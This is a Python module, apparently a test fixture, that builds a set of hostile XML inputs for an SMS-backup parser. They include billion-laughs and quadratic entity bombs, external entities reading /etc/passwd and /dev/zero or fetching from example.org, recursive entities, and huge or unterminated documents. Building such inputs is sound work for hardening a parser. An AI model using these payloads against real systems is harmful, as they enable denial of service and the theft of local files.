"""XML that is made to harm: small to send, without end to read."""

from __future__ import annotations

CANARY = "Zyxwvut"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
BODY = '<smses><sms address="1" type="1" body="{}"/></smses>'
BOMBS = {
    "billion laughs": f'<!DOCTYPE smses [<!ENTITY l0 "{CANARY}">{LAUGHS}]>' + BODY.format("&l11;"),
    "quadratic": f'<!DOCTYPE smses [<!ENTITY a "{"a" * 100_000}">]>' + BODY.format("&a;" * 10_000),
    "a file of the machine": '<!DOCTYPE smses [<!ENTITY f SYSTEM "file:///etc/passwd">]>' + BODY.format("&f;"),
    "another machine": '<!DOCTYPE smses [<!ENTITY f SYSTEM "http://example.org/x">]>' + BODY.format("&f;"),
    "a document type elsewhere": '<!DOCTYPE smses SYSTEM "http://example.org/x.dtd">' + BODY.format("a"),
    "parameter entities": '<!DOCTYPE smses [<!ENTITY % p SYSTEM "file:///dev/zero">%p;]>' + BODY.format("a"),
    "an entity of itself": '<!DOCTYPE smses [<!ENTITY a "&b;"><!ENTITY b "&a;">]>' + BODY.format("&a;"),
    "attributes by default": "<!DOCTYPE smses [<!ATTLIST sms " + f'body CDATA "{"a" * 1000}"' * 1000 + ">]>" + BODY.format("a"),
    "nested without end": "<smses>" + "<sms>" * 500_000,
    "attributes without end": "<smses><sms " + " ".join(f'a{n}="x"' for n in range(100_000)) + "/></smses>",
    "words without end": BODY.format(CANARY * 1_000_000),
    "a tag without end": "<smses><" + "a" * 8_000_000,
    "attached without end": '<smses><mms><part data="' + "QUJD" * 4_000_000,
    "a comment without end": "<smses><!--" + "a" * 8_000_000,
}  # fmt: skip
